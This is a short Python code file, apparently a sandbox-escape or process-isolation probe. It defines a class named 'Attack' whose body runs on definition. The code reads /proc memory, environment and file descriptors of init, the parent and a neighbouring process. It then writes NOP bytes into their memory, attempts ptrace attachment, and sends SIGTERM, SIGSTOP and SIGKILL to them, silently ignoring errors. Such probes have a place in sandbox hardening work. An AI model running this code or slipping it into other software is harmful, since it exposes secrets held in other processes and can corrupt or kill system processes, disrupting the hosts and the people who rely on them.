class Attack:
    import ctypes
    import os
    import signal

    libc = ctypes.CDLL(None, use_errno=True)
    for _pid in {1, os.getppid(), os.getpid() - 1}:
        for _name in ("mem", "environ", "maps", "fd/0", "fd/1", "fd/3", "fd/4", "cwd", "root", "exe"):
            try:
                with open(f"/proc/{_pid}/{_name}", "rb") as _file:
                    _file.read(64)
            except OSError:
                pass
        try:
            with open(f"/proc/{_pid}/mem", "wb") as _file:
                _file.seek(0x400000)
                _file.write(b"\x90" * 64)
        except OSError:
            pass
        for _request in (16, 0x4206):
            libc.ptrace(_request, _pid, 0, 0)
        for _signal in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if _pid != os.getpid():
                    os.kill(_pid, _signal)
            except OSError:
                pass
